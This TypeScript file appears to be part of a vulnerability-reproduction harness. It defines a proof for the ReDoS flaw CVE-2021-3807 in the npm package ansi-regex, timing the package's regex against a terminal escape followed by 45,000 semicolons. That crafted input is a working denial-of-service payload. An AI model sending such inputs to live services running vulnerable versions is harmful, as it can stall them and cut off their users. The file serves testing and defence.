import { defineProof } from '../define-proof.ts';

/** Looks for terminal codes in a text of many separators and takes the time. */
export const ansiRegexTime = defineProof({
  name: 'ansi-regex-time',
  ids: ['CVE-2021-3807', 'GHSA-93q8-gq69-wqmw'],
  ecosystem: 'npm',
  package: 'ansi-regex',
  kind: 'redos',
  describes: 'Looks for terminal codes in a text of many separators and takes the time.',
  shownOn: { vulnerable: '5.0.0', fixed: '5.0.1' },
  source: String.raw`
module.exports = ({ load, cpuMs }) => {
  const subject = load();
  const answers = '\u001B[31mred\u001B[0m'.replace(subject(), '') === 'red';
  const reproduced =
    cpuMs(() => {
      try {
        const text = '\u001B[' + ';'.repeat(45_000);
        text.replace(subject(), '');
      } catch {
        // Refusing is an answer as well.
      }
    }) > 1_000;
  return { reproduced, answers };
};
`,
});
